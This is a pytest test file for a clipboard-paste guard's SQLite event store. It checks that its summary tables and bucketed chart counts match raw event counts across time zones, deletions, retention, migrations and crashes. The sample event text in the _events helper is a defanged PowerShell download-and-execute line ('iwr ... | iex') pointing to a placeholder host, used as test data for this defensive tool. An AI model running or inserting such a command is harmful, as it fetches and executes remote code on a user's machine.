"""Counts and charts from the summary tables: the same answers as counting the events.

Events at odd moments over two weeks; filters with bounds at odd microseconds; buckets of five
minutes to a week seen from UTC, UTC+2, UTC-5, UTC+5:30 and UTC+13. Every answer is held to a
count of the events themselves, before and after deletions, retention and a write by another
program, for a file of the previous schema versions, and whether the batch that counts new
events in (schema version 8) has run for none, some or all of them.
"""

from __future__ import annotations

import random
import sqlite3
from collections import Counter
from dataclasses import fields
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from sqlite_utils import Database

from app.events import Event
from app.storage import EventFilter, EventStore, schema
from app.storage.rows import INSERT_EVENT, event_row, to_us
from tests.app.storage.conftest import T0, Clock, make_event

LEVELS = ("clean", "info", "suspicious", "malicious")
KINDS = ("clipboard_flagged", "paste_warned", "paste_blocked", "error")
TARGETS = ("terminal", "run_dialog", None)
OFFSETS = (timedelta(0), timedelta(hours=2), timedelta(hours=-5), timedelta(hours=5, minutes=30),
           timedelta(hours=13))  # fmt: skip
FILTERS = (
    EventFilter(),
    EventFilter(levels=frozenset({"malicious", "suspicious"})),
    EventFilter(kinds=frozenset({"error"}), targets=frozenset({"terminal"})),
    EventFilter(targets=frozenset({"run_dialog"}), levels=frozenset({"info"})),
    EventFilter(since=T0 + timedelta(days=2, hours=5, microseconds=17)),
    EventFilter(since=T0 + timedelta(days=1, minutes=7), until=T0 + timedelta(days=9, hours=23)),
    EventFilter(until=T0 + timedelta(days=4, seconds=1), kinds=frozenset({"paste_warned"})),
    EventFilter(since=T0 + timedelta(hours=1, minutes=1), until=T0 + timedelta(hours=3)),
    EventFilter(levels=frozenset()),
    EventFilter(targets=frozenset({""})),  # no event has an empty target; none is "no target"
)


def _filter_id(f: EventFilter) -> str:
    """The conditions a filter sets, each set sorted: the same test id in every process
    (pytest-xdist's workers must collect the same ids; a frozenset's order follows the hash
    seed)."""
    parts = []
    for field in fields(f):
        value = getattr(f, field.name)
        if value is not None:
            shown = ",".join(sorted(value)) if isinstance(value, frozenset) else str(value)
            parts.append(f"{field.name}={shown}")
    return " ".join(parts) or "any"


def _events(n: int, seed: int) -> list[Event]:
    rng = random.Random(seed)
    return [
        make_event(
            time=T0 + timedelta(microseconds=rng.randrange(14 * 86_400_000_000)),
            level=rng.choice(LEVELS),
            kind=rng.choice(KINDS),
            target=rng.choice(TARGETS),
            text=f"iwr hxxps://x[.]test/{rng.randrange(3)}.ps1 | iex # marker-{rng.randrange(3)}",
        )
        for _ in range(n)
    ]


def _write_old(db: Database, events: list[Event]) -> None:
    """Write `events` as an older PasteGuard did, row by row (its triggers run for each), in
    one transaction: the file is not in WAL mode yet, and a commit each would sync each."""
    db.execute("BEGIN")
    for event in events:
        db.execute(INSERT_EVENT, event_row(event))
    db.execute("COMMIT")


def _stored(store: EventStore) -> list[Event]:
    return list(store.iter_events())


def _matches(e: Event, f: EventFilter) -> bool:
    return (
        (f.since is None or e.time >= f.since)
        and (f.until is None or e.time < f.until)
        and (f.levels is None or e.level in f.levels)
        and (f.kinds is None or e.kind in f.kinds)
        and (f.targets is None or e.target in f.targets)
    )


def _expected(events: list[Event], f: EventFilter, bucket: timedelta, offset: timedelta) -> list[
        tuple[datetime, str, int]]:  # fmt: skip
    epoch = datetime(1970, 1, 1)
    totals: Counter[tuple[datetime, str]] = Counter()
    for e in events:
        if _matches(e, f):
            local = e.time.replace(tzinfo=None) + offset
            totals[(epoch + (local - epoch) // bucket * bucket, e.level)] += 1
    return sorted((when, level, n) for (when, level), n in totals.items())


def _tables_exact(path: Path) -> int:
    """Assert the summary tables hold exactly the events up to their mark (and no empty row);
    the mark."""
    conn = sqlite3.connect(path, isolation_level=None)
    try:
        mark = int(conn.execute("SELECT counted FROM summary_state").fetchone()[0])
        for table, size in (("event_days", 86_400_000_000), ("event_hours", 3_600_000_000)):
            held = sorted(conn.execute(f"SELECT * FROM {table}").fetchall())
            want = sorted(
                conn.execute(
                    f"SELECT time / {size}, level, kind, ifnull(target, char(0)), count(*) "
                    "FROM events WHERE id <= ? GROUP BY 1, 2, 3, 4",
                    [mark],
                ).fetchall()
            )
            assert held == want, table
    finally:
        conn.close()
    return mark


def _batch(store: EventStore) -> None:
    """The batch the guard's worker takes when idle: index and count in the newest events."""
    store._catch_up_index()
    assert _tables_exact(store.path) == max((e.id or 0 for e in _stored(store)), default=0)


def _check(store: EventStore, buckets: tuple[timedelta, ...] = (timedelta(days=1),)) -> None:
    events = _stored(store)
    for f in FILTERS:
        assert store.count(f) == sum(1 for e in events if _matches(e, f)), f
        for offset in OFFSETS:
            for bucket in buckets:
                got = store.counts_by_bucket(f, bucket, utc_offset=offset)
                assert got == _expected(events, f, bucket, offset), (f, offset, bucket)


BUCKETS = (timedelta(days=1), timedelta(hours=1), timedelta(minutes=5), timedelta(days=7),
           timedelta(hours=6))  # fmt: skip


@pytest.mark.parametrize("counted", [0, 250, 600], ids=lambda n: f"{n}-counted-in")
def test_counts_and_charts_are_those_of_the_events(store: EventStore, counted: int) -> None:
    """Before the batch (every event read from the log), after it, and half-way."""
    for i, event in enumerate(_events(600, seed=1)):
        if i == counted:
            _batch(store)
        assert store.append(event) is not None
    if counted == 600:
        _batch(store)
    _check(store, BUCKETS)
    _batch(store)
    _check(store, BUCKETS)


def test_a_chart_of_thousands_of_bins_is_a_few_statements(store: EventStore) -> None:
    """Five-minute bins over two weeks (4,000 of them, each read from the events, since none
    holds a whole hour) and hours in UTC+5:30 (day and hour parts): one statement per table
    read, not one per bin (or per hundred), and only the bins with events come back."""
    events = _events(600, seed=12)
    for event in events:
        store.append(event)
    for bucket, offset in ((timedelta(minutes=5), timedelta(0)),
                           (timedelta(hours=1), timedelta(hours=5, minutes=30))):  # fmt: skip
        statements: list[str] = []
        trace = statements.append
        store._read(lambda c, trace=trace: c.set_trace_callback(trace))
        try:
            got = store.counts_by_bucket(EventFilter(), bucket, utc_offset=offset)
        finally:
            store._read(lambda c: c.set_trace_callback(None))
        assert got == _expected(events, EventFilter(), bucket, offset)
        reads = [s for s in statements if s.lstrip().upper().startswith("SELECT")]
        assert len(reads) <= 6, reads


@pytest.mark.parametrize("counted", [0, 200, 400], ids=lambda n: f"{n}-counted-in")
def test_they_stay_right_through_deletions_retention_and_other_writers(
    data_dir: Path, clock: Clock, counted: int
) -> None:
    """Deleting and changing events counted in and not yet counted in, by the store and by
    another program; an id changed across the mark."""
    with EventStore.open(data_dir, clock=clock, retention_days=10) as store:
        for i, event in enumerate(_events(400, seed=2)):
            if i == counted:
                _batch(store)
            store.append(event)
        if counted == 400:
            _batch(store)
        ids = [e.id for e in _stored(store) if e.id is not None]
        assert store.delete(random.Random(3).sample(ids, 60)) == 60
        _check(store)
        # another program writes and deletes behind the guard's back
        conn = sqlite3.connect(data_dir / "events.db", isolation_level=None)
        for event in _events(30, seed=4):
            conn.execute(INSERT_EVENT, event_row(event))
        conn.execute("DELETE FROM events WHERE id IN (SELECT id FROM events LIMIT 5)")
        conn.execute(  # ... and changes some: a day later, another level, no target
            "UPDATE events SET time = time + 86400000000, level = 'info', target = NULL "
            "WHERE id % 7 = 3"
        )
        # ... and moves ids: one counted in above every id, one to the free id of an event
        # deleted above (counted in or not, as it was)
        newest = conn.execute("SELECT max(id) FROM events").fetchone()[0]
        conn.execute("UPDATE events SET id = ? WHERE id = (SELECT min(id) FROM events)",
                     [newest + 1000])  # fmt: skip
        free = conn.execute(
            "SELECT min(id) + 1 FROM events WHERE id + 1 NOT IN (SELECT id FROM events)"
        ).fetchone()[0]
        conn.execute("UPDATE events SET id = ? WHERE id = ?", [free, newest])
        conn.close()
        _check(store)
        _tables_exact(data_dir / "events.db")
        info = EventFilter(levels=frozenset({"info"}), kinds=frozenset({"error"}))
        assert len(store.query(info, limit=1000)) == store.count(info)
        clock.now = T0 + timedelta(days=16)  # the first six days expire
        assert store.apply_retention() > 0
        _check(store)
        _tables_exact(data_dir / "events.db")
        _batch(store)
        _check(store)
        # no row is left for a day or an hour without events (their last one deleted)
        empty = store._read(
            lambda c: c.execute(
                "SELECT (SELECT count(*) FROM event_days WHERE n <= 0)"
                " + (SELECT count(*) FROM event_hours WHERE n <= 0),"
                " (SELECT min(day) FROM event_days)"
            ).fetchone()
        )
        assert empty == (0, (T0 + timedelta(days=6)).date().toordinal() - 719163)
        store.delete_all()
        assert store.count() == 0
        assert store._read(
            lambda c: c.execute(
                "SELECT (SELECT count(*) FROM event_days) + (SELECT count(*) FROM event_hours)"
            ).fetchone()[0]
        ) == 0  # fmt: skip


def test_a_file_of_the_previous_version_is_counted_after_the_migration(
    data_dir: Path, clock: Clock
) -> None:
    data_dir.mkdir()
    db = Database(sqlite3.connect(data_dir / "events.db", isolation_level=None))
    schema.migrate(db, schema.MIGRATIONS[:3])
    _write_old(db, _events(300, seed=5))
    db.close()
    with EventStore.open(data_dir, clock=clock) as store:
        assert store.status["schema_version"] == schema.SCHEMA_VERSION
        _check(store, (timedelta(days=1), timedelta(hours=1)))


@pytest.mark.parametrize("f", FILTERS[:4], ids=_filter_id)
def test_counting_reads_the_summary_not_the_events(data_dir: Path, clock: Clock,
                                                   f: EventFilter) -> None:  # fmt: skip
    """Proof the summary answers: change it behind the store's back and the count follows."""
    with EventStore.open(data_dir, clock=clock) as store:
        for event in _events(100, seed=6):
            store.append(event)
        _batch(store)
        before = store.count(f)
        conn = sqlite3.connect(data_dir / "events.db", isolation_level=None)
        conn.execute("UPDATE event_days SET n = n + 1000")
        conn.close()
        assert store.count(f) >= before + 1000


@pytest.mark.parametrize("search", [None, "MARKER-1"], ids=["summary", "search"])
def test_the_chart_s_bins_and_the_first_event(store: EventStore, search: str | None) -> None:
    """Bins as the viewer draws them (weeks from a Monday, local days, hours), with and
    without a free-text search, and the oldest event a chart starts from."""
    events = _events(500, seed=7)
    for event in events:
        store.append(event)
    stored = _stored(store)
    for base in FILTERS:
        f = EventFilter(since=base.since, until=base.until, levels=base.levels,
                        kinds=base.kinds, targets=base.targets, search=search)  # fmt: skip
        matching = [
            e for e in stored
            if _matches(e, f) and (search is None or search.lower() in (e.text or "").lower())
        ]  # fmt: skip
        assert search is None or 0 < len(matching) < len(stored) or not matching
        assert store.earliest(f) == min((e.time for e in matching), default=None), f
        for offset in OFFSETS[:4]:
            for first, width, count in (
                (datetime(2026, 2, 23), timedelta(days=7), 4),  # Mondays
                (datetime(2026, 3, 2), timedelta(days=1), 9),
                (datetime(2026, 3, 4, 5), timedelta(hours=1), 30),
            ):
                got = store.counts_in_bins(f, first, width, count, utc_offset=offset)
                want: Counter[tuple[datetime, str]] = Counter()
                for e in matching:
                    local = e.time.replace(tzinfo=None) + offset
                    i = (local - first) // width
                    if 0 <= i < count:
                        want[(first + width * i, e.level)] += 1
                assert got == sorted((w, lvl, n) for (w, lvl), n in want.items()), (f, offset)


def test_a_version_4_file_loses_its_empty_rows_and_keeps_counting(
    data_dir: Path, clock: Clock
) -> None:
    """Version 4's delete trigger left rows at 0; version 5's removes a row with its last event."""
    data_dir.mkdir()
    db = Database(sqlite3.connect(data_dir / "events.db", isolation_level=None))
    schema.migrate(db, schema.MIGRATIONS[:4])
    _write_old(db, _events(200, seed=8))
    db.execute("DELETE FROM events WHERE time < ?", (to_us(T0 + timedelta(days=3)),))
    assert db.execute("SELECT count(*) FROM event_days WHERE n = 0").fetchone()[0] > 0
    db.close()
    with EventStore.open(data_dir, clock=clock) as store:
        _check(store, (timedelta(days=1), timedelta(hours=1)))
        ids = [e.id for e in _stored(store) if e.time < T0 + timedelta(days=5)]
        assert store.delete([i for i in ids if i is not None]) == len(ids)
        _check(store)
        assert store._read(
            lambda c: c.execute(
                "SELECT (SELECT count(*) FROM event_days WHERE n <= 0)"
                " + (SELECT count(*) FROM event_hours WHERE n <= 0)"
            ).fetchone()[0]
        ) == 0  # fmt: skip


def test_a_version_7_file_with_events_moves_to_batches_in_version_8(
    data_dir: Path, clock: Clock
) -> None:
    """Its events were counted by version 4's triggers: the mark starts at the newest, the
    insert triggers go, and deleting an old event still takes it out. A PasteGuard that knows
    only version 7 refuses the file afterwards, as it refuses any newer file."""
    data_dir.mkdir()
    path = data_dir / "events.db"
    db = Database(sqlite3.connect(path, isolation_level=None))
    schema.migrate(db, schema.MIGRATIONS[:7])
    _write_old(db, _events(300, seed=9))
    db.execute("DELETE FROM events WHERE id % 5 = 0")  # counted out by version 5's triggers
    newest = db.execute("SELECT max(id) FROM events").fetchone()[0]
    db.close()
    with EventStore.open(data_dir, clock=clock) as store:
        assert store.status["schema_version"] == schema.SCHEMA_VERSION
        assert _tables_exact(path) == newest
        triggers = store._read(
            lambda c: {r[0] for r in c.execute("SELECT name FROM sqlite_master WHERE type = "
                                               "'trigger' AND name LIKE 'event\\_%' ESCAPE '\\'")}
        )  # fmt: skip
        assert triggers == {"event_days_out", "event_days_moved", "event_hours_out",
                            "event_hours_moved", "event_templates_out",
                            "event_templates_moved"}  # fmt: skip
        _check(store, (timedelta(days=1), timedelta(hours=1)))
        for event in _events(100, seed=10):  # not counted in until the batch
            store.append(event)
        assert _tables_exact(path) == newest
        _check(store, (timedelta(days=1), timedelta(hours=1)))
        old = [e.id for e in _stored(store) if e.id is not None and e.id <= newest]
        new = [e.id for e in _stored(store) if e.id is not None and e.id > newest]
        assert store.delete(old[::3] + new[::3]) == len(old[::3]) + len(new[::3])
        assert _tables_exact(path) == newest
        _check(store, (timedelta(days=1), timedelta(hours=1)))
        _batch(store)
        _check(store, (timedelta(days=1), timedelta(hours=1)))
    db = Database(sqlite3.connect(path, isolation_level=None))
    with pytest.raises(schema.SchemaTooNew):
        schema.migrate(db, schema.MIGRATIONS[:7])
    db.close()


def test_the_guard_s_first_idle_moment_counts_in_what_a_crash_left(
    data_dir: Path, clock: Clock
) -> None:
    """A guard that stopped between its appends and their batch leaves them above the mark:
    counted from the log meanwhile, and counted in by the next guard's first idle batch."""
    store = EventStore.open(data_dir, clock=clock)
    for event in _events(1500, seed=11):
        store.append(event)
    store._disconnect()  # as a crash would: no batch when closing
    store._closed = True
    with EventStore.open(data_dir, clock=clock) as again:
        assert _tables_exact(again.path) == 0
        _check(again)
        assert again.index_when_idle()
        assert _tables_exact(again.path) == 1500
        _check(again)
